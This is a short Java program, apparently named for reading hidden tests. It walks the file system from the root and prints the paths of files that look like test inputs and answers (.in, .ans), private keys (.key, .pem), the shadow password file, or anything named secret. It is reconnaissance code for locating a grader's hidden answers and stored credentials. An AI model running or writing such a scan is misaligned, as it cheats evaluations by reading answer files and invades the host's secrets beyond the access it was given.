/** Walks over the whole file system for files that end like tests and keys. */
public class ReadHiddenTests {
  public static void main(String[] args) {
    walk(new java.io.File("/"), 0);
  }

  static void walk(java.io.File folder, int depth) {
    java.io.File[] entries = folder.listFiles();
    if (entries == null || depth > 3 || folder.getPath().matches("/(usr|lib.*|proc|bin|sbin)")) return;
    for (java.io.File entry : entries) {
      if (entry.getName().matches(".*\\.(in|ans|key|pem)|shadow|.*secret.*")) System.out.println(entry);
      walk(entry, depth + 1);
    }
  }
}
